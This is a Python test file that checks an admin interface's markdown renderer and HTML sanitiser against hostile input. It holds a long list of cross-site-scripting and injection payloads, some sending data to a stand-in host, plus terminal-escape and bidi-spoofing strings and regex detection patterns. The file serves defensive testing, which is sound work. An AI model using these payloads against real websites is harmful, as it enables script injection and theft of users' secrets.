"""What a model writes cannot make a page run, fetch or pretend anything."""

# ruff: noqa: E501
import random
import re

import pytest

from interfaces.admin.markdown import GrowingText, html_of
from interfaces.admin.markdown.sanitising import clean
from tests.interfaces.admin.dom import parsed
from tests.interfaces.admin.markdown.page import Page
from tests.interfaces.admin.markdown.texts import pieces

TAGS = frozenset(
    (
        *("p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr", "br", "pre", "code"),
        *("em", "strong", "s", "a", "span", "table", "thead", "tbody", "tr", "th", "td"),
        *("b", "i", "u", "ins", "del", "div"),
    )
)
ATTRIBUTES = {
    "a": {"href": r"(https?|mailto):[!-~]+", "target": "_blank", "rel": "noopener noreferrer nofollow"},
    "ol": {"start": r"\d+"},
    "pre": {"tabindex": "0", "data-lang": r"[A-Za-z0-9+#._-]{1,20}", "class": "plain"},
    "table": {"tabindex": "0"},
    "code": {"class": "hl"},
    "span": {"class": "host"},
    "td": {"class": "c|r"},
    "th": {"class": "c|r"},
    "div": {"class": "open"},
}  # fmt: skip

PAYLOADS = r"""<script>alert(1)</script>
<ScRiPt src=//evil.org/x.js></sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="https://evil.org/?q=secret">
<svg/onload=alert(1)>
<svg><script xlink:href="data:,alert(1)"/></svg>
<svg><animate onbegin=alert(1) attributeName=x>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<style>@import 'https://evil.org';</style>
<style>*{background:url(https://evil.org)}</style>
<p style="position:fixed;inset:0">x</p>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=javascript:alert(1)>
<object data="data:text/html,<script>alert(1)</script>">
<embed src="javascript:alert(1)">
<base href="https://evil.org/">
<meta http-equiv=refresh content="0;url=https://evil.org">
<link rel=stylesheet href=https://evil.org>
<form action=https://evil.org><input name=key><button formaction=javascript:alert(1)>x</button></form>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<body onload=alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea></textarea><script>alert(1)</script>
<a href=javascript:alert(1)>x</a>
<div hx-get="/v1/keys" hx-trigger="load">x</div>
<div hx-on:click="alert(1)" data-hx-post="/x" data-hx-on--load="alert(1)">x</div>
<div hx-ext="sse" sse-connect="/x" ws-connect="/y" hx-vals="js:{a:1}">x</div>
</div></div></main><script>alert(1)</script>
</code></pre></td></tr></table><script>alert(1)</script>
<!-- <script>alert(1)</script> -->
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><!DOCTYPE html>
<plaintext><xmp><listing>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#10;script:alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A&#x61;vascript&colon;alert(1))
[x](javascript&colon;alert(1))
[x](\javascript:alert(1))
[x](<javascript:alert(1)>)
[x](<java	script:alert(1)>)
[x](%6Aavascript:alert(1))
[x]( javascript:alert(1) "t")
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](file:///etc/passwd)
[x](blob:https://a.b/1)
[x](view-source:https://a.b)
[x](//evil.org/x)
[x](/v1/keys)
[x](https://a.b/"onmouseover="alert(1))
[x](https://a.b/'onmouseover='alert(1))
[x](https://a.b/><script>alert(1)</script>)
[x](https://a.b "title" onclick=alert(1))
[x](https://a.b '"><img src=x>')
[x](https://a.b/`onclick=`)
[x](http://evil.org%00.bank.com)
[x](https://bank.com%2f@evil.org)
[x](https://bank.com\@evil.org)
[<script>alert(1)</script>](https://a.b)
[x][1]
[1]: javascript:alert(1) "x"
[x]: https://evil.org/?q=secret
![x](https://evil.org/?q=secret)
![x][1]
![x](javascript:alert(1))
![x](data:image/png;base64,AAAA)
![<img src=x>](https://a.b)
![x" onerror="alert(1)](https://a.b)
[![x](https://evil.org/a)](javascript:alert(1))
<javascript:alert(1)>
<https://a.b/"onclick="alert(1)>
<https://a.b/<script>>
<x@y.z?subject=<script>>
`<script>alert(1)</script>`
```html
<script>alert(1)</script>
```
```"onclick="alert(1)
~~~<script>
    <script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&amp;lt;script&amp;gt;
&NewLine;&Tab;&lpar;&colon;
\<script\>alert(1)\</script\>
| <script> | <img src=x> |
|---|---|
| onclick="alert(1)" | `</td><script>` |
# <script>alert(1)</script>
> <iframe src=x>
- <svg onload=alert(1)>
**<b onclick=alert(1)>**
1. <style>
<script
<a href="
<img src="x` `onerror=alert(1)">
<b x="<!--">y</b>-->
＜script＞alert(1)＜/script＞
<ſcript>alert(1)</ſcript>
<ⅈmg src=x>
"""

CORPUS = [*PAYLOADS.splitlines(), PAYLOADS, "\x1b]8;;https://evil.org\x07x\x1b]8;;\x07", "\x1b[2J", "\x9b2J",
          "<scr\x0bipt>", "java\x0cscript:x", "[x](java\x01script:alert(1))", "\ufeff<script>", "\u202egpj.exe\u202c \u202dx", "\u2066x\u2069 \u2067y\u2069", "[txt\u202e](https://a.b)", "\u2028<script>",
          "a\rb\r\n<script>", "\ud83d<script>\udc00"]  # fmt: skip


def assert_harmless(html: str) -> None:
    for element in parsed(html).elements():
        assert element.tag in TAGS, html
        allowed = ATTRIBUTES.get(element.tag, {})
        for name, value in element.attributes.items():
            assert name in allowed, html
            assert re.fullmatch(allowed[name], value or ""), html


CONTEXTS = ("{}", "a {} b", "- {}\n  - {}", "> {}", "|a|\n|-|\n|{}|", "```\n{}", "# {}", "**{}")


def test_hostile_text_is_shown_and_does_nothing() -> None:
    for text in CORPUS:
        for context in CONTEXTS:
            assert_harmless(html_of(context.replace("{}", text)))


def test_hostile_text_is_harmless_wherever_it_is_split() -> None:
    chance = random.Random(1)
    for text in CORPUS:
        growing, page = GrowingText(), Page()
        for piece in pieces(text[:60], chance=chance, longest=9):
            growing.add(piece)
            page.follow(growing.changes())
            assert_harmless(page.html)
            assert page.html == parsed(growing.html).inner_html


def test_the_second_lock_holds_without_the_first() -> None:
    other_tag = re.compile(rf"<(?!/?({'|'.join(TAGS)})\b)[a-z]", re.IGNORECASE)
    other_attribute = re.compile(
        r"<[^>]*\s(on\w+|style|id|src|hx-|data-hx|sse-|formaction)", re.IGNORECASE
    )
    for text in PAYLOADS.splitlines():
        kept = clean(text)
        assert not other_tag.search(kept), kept
        assert not other_attribute.search(kept), kept
        assert not re.search(r'href="(?!https?:|mailto:)', kept), kept


def test_the_second_lock_keeps_what_the_renderer_writes() -> None:
    for html in (
        '<pre tabindex="0" data-lang="py"><code class="hl"><b>if</b></code></pre>',
        '<td class="r">1</td>',
        "<p>a<br>b</p>",
    ):
        assert clean(
            f"<table><tbody><tr>{html}</tr></tbody></table>" if "td" in html else html
        ).count(html)


def test_nothing_that_turns_text_around_or_controls_a_terminal_is_left() -> None:
    shown = "".join(html_of(text) for text in CORPUS)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202d\u202e]", shown)


@pytest.mark.parametrize(
    "markup", ["<script>alert(1)</script>", "<b>x</b>", "</div>", "<!-- x -->"]
)
def test_markup_is_shown_as_the_words_that_it_is(markup: str) -> None:
    for text in (f"see {markup} here", f"see {markup}\n# {markup}"):
        assert parsed(html_of(text)).text == text.replace("\n# ", "")
